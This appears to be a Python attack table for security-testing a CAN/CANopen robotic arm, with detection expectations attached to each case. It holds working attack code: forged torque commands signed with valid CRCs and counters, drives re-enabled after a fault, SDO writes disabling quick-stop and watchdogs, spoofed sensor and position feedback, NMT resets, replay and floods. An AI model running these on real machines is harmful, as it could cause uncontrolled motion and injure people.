"""Attacks on a running arm, each an object that hears the bus and says what to send: no sockets, no clock.

The attacker knows the contract: identifiers, data ids, counters. End-to-end protection is against accidents; it keeps
nobody out who has the DBC. `ATTACKS` is the table; attacked_run.py plays it in virtual time, attacker.py on
a socket.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, NamedTuple

import cantools
import numpy as np
from wire_record import crc_of, data_ids

MS = 1_000_000
DRIVES, SENSORS = (1, 2), (3, 4)
SYNC, NMT, HOST_HEARTBEAT = 0x080, 0x000, 0x77F
STATUS_ENABLED = (0x1637).to_bytes(2, "little") + b"\x0a" + bytes(4)
ENABLE_OPERATION = b"\x0f\x00"
EXTENDED, REMOTE, ERROR = 0x80000000, 0x40000000, 0x20000000
"""Flags of an identifier, as in linux/can.h."""


class Forged(NamedTuple):
    """A frame to send `after_ns` after what called for it. is_ahead: before the devices' answers to a SYNC."""

    can_id: int
    data: bytes
    after_ns: int = 0
    is_ahead: bool = False


class Forger:
    """Makes frames that pass every check."""

    def __init__(self, dbc: bytes) -> None:
        """Read the contract."""
        database = cantools.database.load_string(dbc.decode("cp1252"), "dbc", strict=False)
        self._ids = {message.frame_id: data_ids(message) for message in database.messages}
        self.length = {message.frame_id: message.length for message in database.messages}
        self._scale = {
            (message.frame_id, signal.name): float(signal.scale)
            for message in database.messages
            for signal in message.signals
        }

    def counts(self, can_id: int, signal: str, value: float) -> int:
        """Return a value in counts of a signal."""
        return round(value / self._scale[can_id, signal])

    def sign(self, can_id: int, data: bytes, counter: int) -> bytes:
        """Return a frame of AUTOSAR Profile 2 with this counter and its CRC; bytes from 2 on are the payload."""
        frame = bytearray(data)
        frame[1] = frame[1] & 0xF0 | counter & 0x0F
        columns = np.frombuffer(bytes(frame), np.uint8).reshape(1, len(frame))
        frame[0] = int(crc_of(columns, self._ids[can_id])[0])
        return bytes(frame)


class Attack:
    """Hears every frame and answers with forged ones; `tick` is asked every `every_ns`, if that is set.

    `hears(can_id, data, t_ns)`; `t_ns` counts from the beginning of the attack.
    """

    every_ns: int | None = None

    def __init__(self, forger: Forger) -> None:
        self.forger = forger

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Answer a frame of somebody else."""
        return []

    def tick(self, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Send something by time."""
        return []


class ForgedCommands(Attack):
    """A command right after the host's, with the next counter: the drive takes it, and the host's next is repeated.

    It says Enable operation; where its torque is added to the host's, it says what the host's says.
    """

    def __init__(
        self,
        forger: Forger,
        joints: tuple[int, ...],
        permille: int,
        count: int = 1 << 30,
        is_added: bool = False,
    ) -> None:
        super().__init__(forger)
        self._ids = tuple(0x200 + joint for joint in joints)
        self._permille, self._left, self._is_added = permille, count, is_added

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Answer a command."""
        if can_id not in self._ids or len(data) != 6 or self._left <= 0:
            return []
        self._left -= 1
        own = int.from_bytes(data[4:6], "little", signed=True)
        torque = own + self._permille if self._is_added else self._permille
        word = data[2:4] if self._is_added else ENABLE_OPERATION
        forged = data[:2] + word + max(-1000, min(1000, torque)).to_bytes(2, "little", signed=True)
        return [Forged(can_id, self.forger.sign(can_id, forged, (data[1] & 0x0F) + 1))]


class EnabledAfterFault(Attack):
    """Once the host says Quick stop: fault reset, shutdown, switch on, enable, and torque; with every SYNC."""

    WORDS = (0x80, 0x06, 0x07, 0x0F, 0x0F, 0x0F, 0x0F, 0x0F)
    LASTS_NS = 1500 * MS

    def __init__(self, forger: Forger) -> None:
        super().__init__(forger)
        self._since_ns: int | None = None
        self._counter = {0x201: 0, 0x202: 0}
        self._sent = 0

    every_ns = MS

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:
        """Wait for the quick stop, and follow the host's counter."""
        if can_id in self._counter and len(data) == 6:
            self._counter[can_id] = (data[1] & 0x0F) + 1
            if data[2] & 0x06 == 0x02 and self._since_ns is None:
                self._since_ns = t_ns
            return self._forge([can_id]) if self._since_ns is not None else []
        return []

    def tick(self, t_ns: int) -> list[Forged]:
        """Go on when the host has fallen silent, SYNC included."""
        if self._since_ns is None or t_ns - self._since_ns < 700 * MS:
            return []
        return [*self._forge([0x201, 0x202])]

    def _forge(self, can_ids: list[int]) -> list[Forged]:
        frames = []
        for can_id in can_ids:
            word = self.WORDS[min(self._sent // 2, len(self.WORDS) - 1)]
            self._sent += 1
            payload = bytes(2) + word.to_bytes(2, "little") + (300 if word == 0x0F else 0).to_bytes(2, "little")
            frames.append(Forged(can_id, self.forger.sign(can_id, payload, self._counter[can_id])))
            self._counter[can_id] += 1
        return frames


class Written(Attack):
    """An object of some nodes is written by SDO, again and again."""

    every_ns = 50 * MS

    def __init__(self, forger: Forger, index: int, sub: int, value: int, size: int, nodes: tuple[int, ...]) -> None:
        super().__init__(forger)
        head = bytes([0x23 | (4 - size) << 2, index & 0xFF, index >> 8, sub])
        self._request = head + value.to_bytes(4, "little")
        self._nodes = nodes

    def tick(self, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Send the request to each node."""
        return [Forged(0x600 + node, self._request) for node in self._nodes]


class ForgedTorque(Attack):
    """A torque frame beside each true one. `counter`: "next" takes the sensor's place, "same" repeats its counter.

    `offset_Nm` is added, `slope_Nm_s` per second on top. `is_ahead`: sent with SYNC, before the sensor's own.
    """

    def __init__(
        self,
        forger: Forger,
        offset_Nm: float,
        slope_Nm_s: float = 0.0,
        counter: str = "next",
        is_ahead: bool = False,
    ) -> None:
        super().__init__(forger)
        self._offset_Nm, self._slope_Nm_s = offset_Nm, slope_Nm_s
        self._step = 1 if counter == "next" else 0
        self._is_ahead = is_ahead
        self._last: dict[int, bytes] = {}

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:
        """Answer a torque frame, or a SYNC with what is expected to come."""
        if can_id in (0x183, 0x184) and len(data) == 6:
            self._last[can_id] = data
            return [] if self._is_ahead else [self._forge(can_id, data, t_ns, self._step)]
        if can_id == SYNC and self._is_ahead:
            frames = [self._forge(known, last, t_ns, 1) for known, last in self._last.items()]
            return [frame._replace(is_ahead=True) for frame in frames]
        return []

    def _forge(self, can_id: int, data: bytes, t_ns: int, step: int) -> Forged:
        added_Nm = self._offset_Nm + self._slope_Nm_s * t_ns * 1e-9
        value = int.from_bytes(data[2:6], "little", signed=True) + self.forger.counts(can_id, "torque", added_Nm)
        forged = data[:2] + value.to_bytes(4, "little", signed=True)
        return Forged(can_id, self.forger.sign(can_id, forged, (data[1] & 0x0F) + step))


class ForgedFeedback(Attack):
    """A feedback frame beside each true one, with another position; nothing protects it.

    slope_rad_s: how fast the offset grows to `offset_rad`; 0: it is there at once.
    """

    def __init__(
        self,
        forger: Forger,
        offset_rad: float,
        joints: tuple[int, ...] = DRIVES,
        slope_rad_s: float = 0.0,
        is_ahead: bool = False,
    ) -> None:
        super().__init__(forger)
        self._offset_rad, self._slope_rad_s, self._is_ahead = offset_rad, slope_rad_s, is_ahead
        self._ids = tuple(0x180 + joint for joint in joints)
        self._last: dict[int, bytes] = {}

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:
        """Answer a feedback frame, or a SYNC with what is expected to come."""
        if can_id in self._ids and len(data) == 8:
            self._last[can_id] = data
            return [] if self._is_ahead else [self._forge(can_id, data, t_ns)]
        if can_id == SYNC and self._is_ahead:
            return [self._forge(known, last, t_ns)._replace(is_ahead=True) for known, last in self._last.items()]
        return []

    def _forge(self, can_id: int, data: bytes, t_ns: int) -> Forged:
        offset_rad = self._offset_rad
        if self._slope_rad_s:
            offset_rad = min(offset_rad, self._slope_rad_s * t_ns * 1e-9)
        value = int.from_bytes(data[:4], "little", signed=True) + self.forger.counts(can_id, "position", offset_rad)
        return Forged(can_id, value.to_bytes(4, "little", signed=True) + data[4:])


class ForgedSync(Attack):
    """A SYNC beside each of the host's. step: of its counter; None: any. after_ns: how long after the host's."""

    def __init__(self, forger: Forger, step: int | None, after_ns: int = 0) -> None:
        super().__init__(forger)
        self._step, self._after_ns = step, after_ns
        self._draws = np.random.default_rng(1)

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Answer a SYNC."""
        if can_id != SYNC or not data:
            return []
        step = int(self._draws.integers(0, 240)) if self._step is None else self._step
        return [Forged(SYNC, bytes([1 + (data[0] - 1 + step) % 240]), self._after_ns)]


class Repeated(Attack):
    """The same frames at a fixed interval."""

    def __init__(self, forger: Forger, frames: tuple[tuple[int, bytes], ...], every_ns: int, count: int = 1 << 30):
        super().__init__(forger)
        self.every_ns = every_ns
        self._frames, self._left = frames, count

    def tick(self, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Send them."""
        self._left -= 1
        return [Forged(can_id, data) for can_id, data in self._frames] if self._left >= 0 else []


class Answered(Attack):
    """A changed copy right after each frame of some identifiers."""

    def __init__(self, forger: Forger, can_ids: tuple[int, ...], change: Callable[[bytes], bytes], flag: int = 0):
        super().__init__(forger)
        self._ids, self._change, self._flag = can_ids, change, flag

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Answer one of them."""
        return [Forged(can_id | self._flag, self._change(data))] if can_id in self._ids else []


class Replayed(Attack):
    """What was on the bus in one second, once more, at the same intervals. can_ids: only these; empty: all."""

    LENGTH_NS = 1000 * MS
    every_ns = MS

    def __init__(self, forger: Forger, can_ids: tuple[int, ...] = ()) -> None:
        super().__init__(forger)
        self._ids = can_ids
        self._recorded: list[tuple[int, int, bytes]] = []
        self._place = 0

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:
        """Record."""
        if t_ns < self.LENGTH_NS and (not self._ids or can_id in self._ids):
            self._recorded.append((t_ns, can_id, data))
        return []

    def tick(self, t_ns: int) -> list[Forged]:
        """Send what is due."""
        frames = []
        while self._place < len(self._recorded) and self._recorded[self._place][0] + self.LENGTH_NS <= t_ns:
            _, can_id, data = self._recorded[self._place]
            self._place += 1
            frames.append(Forged(can_id, data))
        return frames


class KeptAlive(Attack):
    """A node that has died is played on: its heartbeat, and its last torque with counters that go on."""

    every_ns = 100 * MS

    def __init__(self, forger: Forger, node: int = 3) -> None:
        super().__init__(forger)
        self._node, self._id = node, 0x180 + node
        self._last = b""
        self._counter = 0
        self._has_come = True

    def hears(self, can_id: int, data: bytes, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Follow the node while it lives; afterwards answer in its place, behind its neighbour."""
        if can_id == self._id and len(data) == 6:
            self._last, self._counter, self._has_come = data, data[1] & 0x0F, True
        elif can_id == SYNC:
            was_silent, self._has_come = not self._has_come, False
            if was_silent and self._last:
                self._counter += 1
                return [Forged(self._id, self.forger.sign(self._id, self._last, self._counter), 10_000)]
        return []

    def tick(self, t_ns: int) -> list[Forged]:  # noqa: ARG002
        """Send its heartbeat."""
        return [Forged(0x700 + self._node, b"\5")]


@dataclass(frozen=True)
class AttackCase:
    """One row of the table.

    must_stop: the arm has to come to rest. named_by: a pattern of which the log's line must have something. faults: of
    the scenario, their times from the beginning of the attack. is_harmless: it may pass unnoticed if it changes
    nothing. may_move: nobody can brake, as it takes the power off a drive, or the arm evades as it does from a touch.
    only: "vcan" where virtual time can't play it, or "".
    """

    name: str
    about: str
    make: Callable[[Forger], Attack]
    must_stop: bool = True
    named_by: str = "somebody else|another host|another master|foreign|forged"
    faults: tuple[dict[str, Any], ...] = ()
    is_harmless: bool = False
    may_move: bool = False
    only: str = ""
    lasts_s: float = field(default=1.5)


_DATA = "a second frame of|REPEATED|two devices|same node id|forged|attack|more than one|twice"
_BOTH = DRIVES
_WRITES = (
    ("command-patience", 0x2200, 0, 255, 1), ("sync-tolerance", 0x2201, 0, 10_000, 2), ("period", 0x1006, 0, 2000, 4),
    ("host-watch", 0x1016, 1, 0, 4), ("own-heartbeat", 0x1017, 0, 0, 2), ("quick-stop", 0x605A, 0, 0, 2),
    ("fault-reaction", 0x605E, 0, 0, 2), ("max-torque", 0x6072, 0, 3000, 2), ("rated-torque", 0x6076, 0, 50_000, 4),
    ("positive-limit", 0x60E0, 0, 3000, 2), ("mode", 0x6060, 0, 0, 1), ("command-cob-id", 0x1400, 1, 0x80000201, 4),
    ("feedback-cob-id", 0x1800, 1, 0x80000181, 4), ("controlword", 0x6040, 0, 0, 2), ("torque", 0x6071, 0, 500, 2),
)  # fmt: skip


def _writes() -> Iterator[AttackCase]:
    for name, index, sub, value, size in _WRITES:
        yield AttackCase(
            f"sdo-{name}",
            f"0x{index:04X}:{sub} = {value} is written to both drives",
            lambda forger, args=(index, sub, value, size): Written(forger, *args, _BOTH),
            may_move=index == 0x6040,
        )
    yield AttackCase(
        "sdo-sensor-zero", "0x6125:1, autozero, is written to both sensors",
        lambda forger: Written(forger, 0x6125, 1, 0x6F72657A, 4, SENSORS),
    )  # fmt: skip


def _once(can_id: int, data: bytes) -> Callable[[Forger], Attack]:
    """Send one frame, at the beginning."""
    return lambda forger: Repeated(forger, ((can_id, data),), MS, 1)


def _every(interval_ns: int, can_id: int, data: bytes) -> Callable[[Forger], Attack]:
    """Send the same frame at a fixed interval."""
    return lambda forger: Repeated(forger, ((can_id, data),), interval_ns)


def _nmt() -> Iterator[AttackCase]:
    for name, command in (("stop", 2), ("pre-operational", 0x80), ("reset-node", 0x81), ("reset-communication", 0x82)):
        for whom, node in (("all", 0), ("drive", 1), ("sensor", 4)):
            yield AttackCase(
                f"nmt-{name}-{whom}",
                f"one NMT {name} to {'all nodes' if node == 0 else f'node {node}'}",
                _once(NMT, bytes([command, node])),
                may_move=command == 0x81 and whom != "sensor",
            )
    yield AttackCase("nmt-start", "NMT start to all, every 100 ms", _every(100 * MS, NMT, b"\1\0"))


ATTACKS: tuple[AttackCase, ...] = (
    AttackCase(
        "command-both", "500 per mille to both drives in place of the host's", lambda f: ForgedCommands(f, _BOTH, 500)
    ),
    AttackCase(
        "command-one", "500 per mille to drive 1 in place of the host's", lambda f: ForgedCommands(f, (1,), 500)
    ),
    AttackCase(
        "command-single", "one command of 1000 per mille to drive 2", lambda f: ForgedCommands(f, (2,), 1000, 1)
    ),
    AttackCase(
        "command-small", "20 per mille on top of the host's", lambda f: ForgedCommands(f, _BOTH, 20, is_added=True)
    ),
    AttackCase(
        "enable-after-fault",
        "a drive fault; then both drives are reset, enabled and driven by forged commands",
        EnabledAfterFault,
        faults=({"kind": "drive_fault", "node": "drive1", "code": 0x2310, "at_s": 0.05},),
    ),
    AttackCase(
        "status-hides-fault",
        "a drive fault; its status is followed by one that says Operation enabled",
        lambda f: Answered(f, (0x281,), lambda _: STATUS_ENABLED),
        named_by="EMCY|2310|DRIVE",
        faults=({"kind": "drive_fault", "node": "drive1", "code": 0x2310, "at_s": 0.05, "duration_s": 1.0},),
    ),
    *_writes(),
    AttackCase(
        "sensor-jump", "+3 Nm on both torque sensors, next counter", lambda f: ForgedTorque(f, 3.0), False, _DATA
    ),
    AttackCase(
        "sensor-jump-ahead",
        "the same, sent with SYNC before the sensors' own",
        lambda f: ForgedTorque(f, 3.0, is_ahead=True),
        False,
        _DATA,
    ),
    AttackCase(
        "sensor-ramp",
        "an offset that grows by 0.5 Nm/s on both",
        lambda f: ForgedTorque(f, 0.0, 0.5),
        False,
        _DATA,
        lasts_s=3.0,
    ),
    AttackCase(
        "sensor-ramp-ahead",
        "the same, before the sensors' own",
        lambda f: ForgedTorque(f, 0.0, 0.5, is_ahead=True),
        False,
        _DATA,
        lasts_s=3.0,
    ),
    AttackCase(
        "sensor-repeated",
        "a frame with the counter of the true one and +3 Nm beside each",
        lambda f: ForgedTorque(f, 3.0, counter="same"),
        False,
        _DATA,
    ),
    AttackCase(
        "sensor-replayed",
        "torque frames of the second before",
        lambda f: Replayed(f, (0x183, 0x184)),
        False,
        _DATA,
        lasts_s=2.5,
    ),
    AttackCase(
        "feedback-offset", "+0.018 rad beside each true feedback", lambda f: ForgedFeedback(f, 0.018), False, _DATA
    ),
    AttackCase(
        "feedback-offset-ahead",
        "the same, before the drives' own",
        lambda f: ForgedFeedback(f, 0.018, is_ahead=True),
        False,
        _DATA,
    ),
    AttackCase(
        "feedback-drift",
        "an offset that grows by 0.1 rad/s to 0.3 rad on drive 1",
        lambda f: ForgedFeedback(f, 0.3, (1,), 0.1),
        False,
        _DATA,
        lasts_s=3.0,
    ),
    AttackCase("sync-doubled", "each SYNC twice", lambda f: ForgedSync(f, 0)),
    AttackCase("sync-next", "after each SYNC the next counter", lambda f: ForgedSync(f, 1)),
    AttackCase("sync-jump", "after each SYNC one with the counter 100 ahead", lambda f: ForgedSync(f, 100)),
    AttackCase("sync-random", "after each SYNC one with any counter", lambda f: ForgedSync(f, None)),
    AttackCase(
        "sync-between", "a SYNC with the next counter half a period after each", lambda f: ForgedSync(f, 1, 500_000)
    ),
    *_nmt(),
    AttackCase("heartbeat-of-host", "0x77F every 50 ms", _every(50 * MS, HOST_HEARTBEAT, b"\5")),
    AttackCase(
        "heartbeat-of-drive",
        "drive 1 says Operational every 20 ms, besides its own",
        _every(20 * MS, 0x701, b"\5"),
        False,
        _DATA + "|heartbeat",
        is_harmless=True,
    ),
    AttackCase(
        "heartbeat-pre-operational",
        "sensor 2 says Pre-operational once",
        _once(0x704, b"\x7f"),
        named_by="PRE-OPERATIONAL|heartbeat",
    ),
    AttackCase(
        "dead-node-kept-alive",
        "sensor 1 falls silent; its heartbeat and its last torque go on with right counters",
        KeptAlive,
        False,
        "-> REACT",  # a value that stands still, with right counters: no check can tell it from a touch
        faults=({"kind": "silence", "node": "sensor1", "at_s": 0.2},),
        may_move=True,
    ),
    AttackCase(
        "emcy",
        "drive 1 says EMCY 0x2310",
        _once(0x081, b"\x10\x23\x03\0\0\0\0\0"),
        named_by="EMCY|2310",
    ),
    AttackCase(
        "sdo-answers",
        "answers of drive 1 that nobody asked for, every 20 ms",
        _every(20 * MS, 0x581, b"\x80\x41\x60\0\0\0\2\6"),
        False,
        "SDO|answer|nobody asked|unexpected",
        is_harmless=True,
    ),
    AttackCase(
        "sdo-requests",
        "0x1000 of drive 1 is read every 20 ms",
        _every(20 * MS, 0x601, b"\x40\0\x10\0\0\0\0\0"),
        False,
    ),
    AttackCase("replay", "one second of the bus once more", Replayed, lasts_s=2.5),
    AttackCase(
        "flood",
        "identifier 0x001 every 60 us",
        _every(60_000, 0x001, bytes(8)),
        False,
        "0x001|flood|load|full|late|missing|old",
        is_harmless=True,
    ),
    AttackCase(
        "remote",
        "a remote frame for each feedback",
        lambda f: Answered(f, (0x181, 0x182), lambda _: b"", REMOTE),
        False,
        ".",
        is_harmless=True,
        only="vcan",
    ),
    AttackCase(
        "short",
        "each cyclic frame of the devices again, one byte short",
        lambda f: Answered(f, (0x181, 0x182, 0x183, 0x184), lambda data: data[:-1]),
        False,
        _DATA + "|length|WRONG_CRC|implausible",
        is_harmless=True,
    ),
    AttackCase(
        "long",
        "each torque frame again, two bytes longer",
        lambda f: Answered(f, (0x183, 0x184), lambda data: data + b"\0\0"),
        False,
        _DATA + "|length|WRONG_CRC",
        is_harmless=True,
    ),
    AttackCase(
        "command-short",
        "each command again, one byte short",
        lambda f: Answered(f, (0x201, 0x202), lambda data: data[:-1]),
    ),
    AttackCase(
        "extended",
        "each command again with a 29-bit identifier of the same number",
        lambda f: Answered(f, (0x201, 0x202), lambda data: data, EXTENDED),
        False,
        ".",
        is_harmless=True,
        only="vcan",
    ),
)


def find_attack(name: str) -> AttackCase:
    """Return the row of this name. Raises KeyError."""
    return {case.name: case for case in ATTACKS}[name]
